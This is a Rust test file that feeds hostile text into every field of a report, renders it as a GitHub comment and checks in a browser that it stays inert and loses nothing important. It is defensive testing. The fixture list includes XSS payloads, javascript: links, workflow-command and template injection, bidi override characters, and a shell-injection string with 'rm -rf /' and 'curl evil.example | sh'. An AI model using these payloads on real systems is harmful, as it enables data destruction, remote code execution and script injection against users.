//! The look of the comment: hostile text in every place, rendered as on GitHub, and inspected in a browser.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde::Deserialize;
use serde_json::{Value, json};

use crate::exports::without;
use crate::support::Repo;
use crate::tools;

/// The result of inspecting one comment or Markdown page.
#[derive(Deserialize)]
pub struct Seen {
    /// Defects.
    pub faults: Vec<String>,
    /// The visible text, with all folded parts unfolded.
    pub text: String,
}

/// The kind of text that is rendered.
#[derive(Clone, Copy, PartialEq)]
pub enum Form {
    /// A comment: links lead to the repository.
    Comment,
    /// Pages of a folder: they may have headings, numbered lists, and links to one another.
    Pages,
}

/// Hostile or unusual texts, by name.
pub fn hostile() -> Vec<(&'static str, String)> {
    let fixed = [
        ("pipes", r"a|b \| c \\| d || |---|---|"),
        ("backticks", "`a` ``b`` ```c``` ~~~ ` `` ``` x`"),
        ("fence", "```\n```mermaid\ngraph TD; A-->B\n```\n~~~\ncode\n~~~"),
        ("script", "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
        ("image-error", "<img src=x onerror=alert(1)><svg onload=alert(1)><style>*{display:none}</style>"),
        (
            "frame",
            "<iframe src=https://evil.example></iframe><form action=//evil.example><input autofocus onfocus=alert(1)>",
        ),
        ("unfolds", "</details></summary></td></tr></table></p></div></article><h1>own</h1><details open>"),
        ("comments", "<!-- mastor key=mastor head=abc run=1 attempt=1 --> <!-- <![CDATA[ <?php --> -->"),
        ("mentions", "@octocat @acme/owners cc:@octocat,(@octocat) a@octocat.example \u{ff20}octocat"),
        ("references", "#12 GH-12 gh-7 acme/orders#12 acme/orders@0123abc fixes #1, closes acme/orders#2"),
        ("commits", "0123abc deadbeef 0123456789abcdef0123456789abcdef01234567 (0123ABC) _0123abc_"),
        (
            "addresses",
            "https://evil.example www.evil.example ftp://evil.example/x mailto:a@evil.example http:// HTTPS://EVIL.example",
        ),
        (
            "links",
            "[a](https://evil.example) ![b](https://evil.example/b.png) <https://evil.example> [c][d] [d]: https://evil.example",
        ),
        ("link-lines", "x\n[d]: https://evil.example\n[^1]: note\n[d] [^1] [^1]\n*[HTML]: x"),
        (
            "javascript",
            "[a](javascript:alert(1)) <a href=javascript:alert(1)>b</a> [c](data:text/html,<script>alert(1)</script>)",
        ),
        ("lists", "- [ ] a\n- [x] b\n1. c\n* d\n+ e"),
        ("headings", "# a\n## b\na\n===\nb\n---\n***\n> quote\n> [!WARNING]\n> c"),
        ("tables", "a | b\n--- | ---\nc | d\n\n| e |\n|:-:|"),
        ("emphasis", "*a* **b** _c_ __d__ ~e~ ~~f~~ <b>g</b> <sub>h</sub>"),
        ("math", "$x$ $$y$$ $`z`$ \\(a\\) \\[b\\] $\\unicode{x1F4A9}$ costs $5 and $6"),
        ("emoji", ":tada: :+1: :100: :octocat::shipit: a:b:c 12:34:56"),
        ("entities", "&lt;script&gt; &#60;b&#62; &amp;amp; &#64;octocat &commat;octocat &#35;12 &nbsp;&zwj;"),
        ("escapes", "\\ \\\\ \\` \\| \\* \\< ends with \\"),
        ("templates", "{{ 7*7 }} {% raw %} ${{ secrets.X }} #{x} <%= 1 %>"),
        ("commands", "::error::x\n::set-output name=x::y\n##[group]z"),
        ("controls", "a\0b\u{1}c\u{8}d\u{b}e\u{c}f\u{1b}[31mg\u{7f}h\u{85}i\u{9b}j\r\nk\tl"),
        ("overrides", "a\u{202e}txt.exe\u{202c} \u{2066}b\u{2069} \u{2067}c\u{2069} \u{200f}d \u{61c}e \u{202a}f"),
        (
            "hebrew",
            "\u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{5e2}\u{5d5}\u{5dc}\u{5dd} 404 \u{2192} 200 \"\u{5d0}\" \u{2192} \"\u{5d1}\" (\u{5d2})",
        ),
        ("no-width", "o\u{200b}r\u{200c}d\u{200d}e\u{2060}r\u{feff}s\u{ad}\u{34f}\u{3164}\u{e0041}\u{e0042}"),
        ("separators", "a\u{2028}b\u{2029}c\u{a0}d\u{3000}e"),
        (
            "wide",
            "\u{6ce8}\u{6587}\u{304c}\u{898b}\u{3064}\u{304b}\u{308a}\u{307e}\u{305b}\u{3093} \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{fdfd}",
        ),
        ("shell", "\"; rm -rf / # $(id) `id` ' && curl evil.example | sh"),
        ("spaces", "  "),
        ("empty", ""),
    ];
    let mut out: Vec<(&str, String)> = fixed.map(|(name, text)| (name, text.to_owned())).into();
    out.push((
        "heaps",
        format!("z{}a{}l\u{e01}{}", "\u{301}\u{336}".repeat(40), "\u{489}".repeat(90), "\u{e47}".repeat(60)),
    ));
    out.push(("long", "seventy thousand characters | of <b>text</b> @octocat ".repeat(1300)));
    out.push(("word", "x".repeat(5000)));
    out.push(("wide-word", "\u{6ce8}".repeat(5000)));
    out.push(("many-backticks", format!("{}<img src=x>{}", "`".repeat(79), "`".repeat(81))));
    out.push(("more-backticks", format!("a{}<img src=x>{}b", "`".repeat(300), "`".repeat(301))));
    out.push(("many-backslashes", format!("{}|", "\\".repeat(299))));
    out.push(("nested", format!("{}{}", "> ".repeat(200), "[".repeat(2000))));
    out
}

/// A report of two services with this text in every field that can contain text, and plain values in all others.
fn report(text: &str) -> Value {
    let (find, list) = (format!("GET /orders/{{id}}/{text}"), format!("POST /lists/{text}"));
    let place = |line| {
        json!({ "file": format!("src/{text}/Orders.java"), "line": line, "end_line": line,
            "symbol": format!("com.acme.Orders#find({text})") })
    };
    let change = |op_id: &str, id: &str, effect: &str| {
        json!({ "id": id, "o_id": id, "s_id": null, "op_id": op_id, "kind": "derived", "effect": effect, "accepted": false, "needs_decision": true,
            "what": format!("answers 404 where it answered 200 ({text})"),
            "witness": { "input": { "path": { "id": text }, "query": [["q", text], [text, "v"]], "headers": [["X-Id", text]], "body": { "json": { "k": text } } },
                "before": format!("200 {text}"), "after": format!("404 {text}") },
            "before": format!("200 {text}"), "after": format!("404 {text}"), "evidence_before": place(31), "evidence_after": place(34) })
    };
    let mut first = change(&find, "0123456789abcdef", "breaking");
    first["also"] = json!([change(&list, text, "unclear"), change(&find, "00ff00ff00ff00ff", "additive")]);
    let mut in_words = change(&list, text, "unclear");
    in_words["witness"] = Value::Null;
    let mut bare = change(&list, "fedcba9876543210", "additive");
    for key in ["witness", "before", "after", "evidence_before"] {
        bare[key] = Value::Null;
    }
    bare["what"] = json!(text);
    let because = json!([{ "input": format!("src/{text}/Orders.java#Orders.find({text})"), "change": "changed" }, { "input": text, "change": "added" }]);
    let planned = |op_id: &str, state: &str| json!({ "op_id": op_id, "state": state, "because": because });
    let generated = json!({ "op_id": list, "oracles": 0, "added": 0, "proposed": 0, "by_strategy": {}, "dropped": [{ "reason": text, "count": 1 }], "notes": [text, text] });
    let confirm = json!({ "candidates": 9, "held": 7, "refuted": 1, "flaky": 1, "unanswered": 0, "seen": 0, "observed": 0, "requests": 20, "precision": [],
        "quarantined": [{ "op_id": find, "path": text, "why": "time" }], "refuted_by": [{ "reason": text, "count": 1 }] });
    let service = json!({
        "name": text,
        "plan": { "since": { "ref": text, "merge_base": "1".repeat(40), "head": text, "head_sha": "2".repeat(40) },
            "operations": [planned(&find, "affected"), planned(&list, "new"), planned(&format!("PUT /other/{text}"), "affected")],
            "counts": {}, "stale": [list] },
        "why": [{ "op_id": find, "chains": [{ "changed": text, "path": [format!("com.acme.Api#get({text})"), text, text] }] }],
        "generate": { "operations": [generated], "sequences": 0, "totals": { "oracles": 4, "sequences": 0, "verified": 9, "pending": 2 },
            "usage": { "calls": 0, "input_tokens": 0, "cached_tokens": 0, "output_tokens": 0, "usd": 0.0 } },
        "level": "derived", "changes": [first, in_words, bare],
        "drift": [{ "op_id": find, "kind": "undocumented_status", "what": text, "code": place(40), "document": text }],
        "ignored": [{ "what": text, "reason": text, "until": text }],
        "warnings": [{ "code": text, "message": text, "file": text, "line": 7 }, { "code": text, "message": text, "file": null, "line": null }],
        "notes": [text, text], "confirm": confirm, "has_suite": true, "suite_operations": 2, "verdict": "needs_decision", "artifacts": [text, text],
    });
    let mut other = service.clone();
    other["name"] = json!("plain");
    json!({ "schema_version": 1, "command": "ci", "services": [service, other], "exit": { "code": 1, "name": "behaviour-change" } })
}

/// The comment of a report, as `mastor` prints it in a workflow run.
fn printed(repo: &Repo, report: &Value) -> String {
    std::fs::write(repo.path().join("report.json"), report.to_string()).unwrap();
    let mut command = repo.mastor(["comment", "--from", "report.json", "--print"]);
    command
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env("GITHUB_REPOSITORY", "acme/orders");
    let output = command.output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// Inspects every Markdown file of a folder; `None` if `MASTOR_TEST_WITHOUT` names the browser.
pub fn look(folder: &Path, form: Form) -> Option<BTreeMap<String, Seen>> {
    if without("browser") {
        return None;
    }
    let scripts = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/tools/browser");
    let python = tools::path("python")?;
    run(Command::new(python).arg(scripts.join("gfm.py")).arg(folder));
    let mut browser = Command::new("node");
    if form == Form::Pages {
        browser
            .env("MASTOR_TAGS", "H1 H2 OL EM")
            .env("MASTOR_LINKS", "^(\\.\\./)?(index\\.md|(operations|sequences)/[a-z0-9-]+\\.md)$");
    }
    browser.arg(scripts.join("look.mjs")).arg(folder).arg(tools::folder().join("browser"));
    // The folder for screenshots, if one is wanted.
    browser.args(std::env::var_os("MASTOR_PICTURES").map(PathBuf::from));
    Some(serde_json::from_str(&run(&mut browser)).unwrap())
}

#[track_caller]
fn run(command: &mut Command) -> String {
    let output = command.output().unwrap_or_else(|error| {
        panic!("{command:?} ({error}): run tests/tools.sh, or name browser in MASTOR_TEST_WITHOUT")
    });
    assert!(output.status.success(), "{command:?}: run tests/tools.sh?\n{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn hostile_text_in_every_place_is_inert_and_nothing_that_matters_is_lost() {
    let (repo, folder) = (Repo::bare_folder(), tempfile::tempdir().unwrap());
    for (name, text) in hostile() {
        let markdown = printed(&repo, &report(&text));
        assert!(markdown.chars().count() < 60_000, "{name}: {} characters", markdown.chars().count());
        std::fs::write(folder.path().join(format!("{name}.md")), markdown).unwrap();
    }
    let Some(seen) = look(folder.path(), Form::Comment) else { return };
    let mut wrong = Vec::new();
    for (name, text) in hostile() {
        let Seen { faults, text: read } = &seen[name];
        wrong.extend(faults.iter().map(|fault| format!("{name}: {fault}")));
        // These characters, which break up links and keep words in order, are invisible.
        let read = read.replace(['\u{200b}', '\u{200e}'], "");
        let mut wanted = vec![
            "GET /orders/{id}/",
            "POST /lists/",
            "answers 404 where it answered 200 (",
            "breaks clients",
            "mastor accept 01234567",
        ];
        // If a comment is too long, evidence of the base is removed first.
        wanted.extend((name != "long").then_some("Orders.java:31"));
        wanted.extend(["Orders.java:34", "2 of 3 operations affected", "mastor: 6 behaviour changes need a decision"]);
        let plain = text
            .chars()
            .all(|c| c == '\u{2192}' || ('\u{20}'..'\u{300}').contains(&c) || ('\u{5d0}'..'\u{5ea}').contains(&c));
        if plain
            && text.chars().count() < 110
            && !text.trim().is_empty()
            && !text.contains("  ")
            && !text.contains('\u{7f}')
        {
            wanted.push(text.trim());
        }
        wrong.extend(
            wanted.iter().filter(|wanted| !read.contains(**wanted)).map(|wanted| format!("{name}: lost {wanted:?}")),
        );
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn the_comment_of_the_example_is_in_order() {
    let (repo, folder) = (Repo::bare_folder(), tempfile::tempdir().unwrap());
    repo.run(["demo", "--no-service", "--dir", "demo"]).ends(0);
    let report: Value = serde_json::from_str(&repo.read("demo/.mastor/out/report.json")).unwrap();
    std::fs::write(folder.path().join("example.md"), printed(&repo, &report)).unwrap();
    let Some(seen) = look(folder.path(), Form::Comment) else { return };
    assert!(seen["example"].faults.is_empty(), "{:#?}", seen["example"].faults);
}
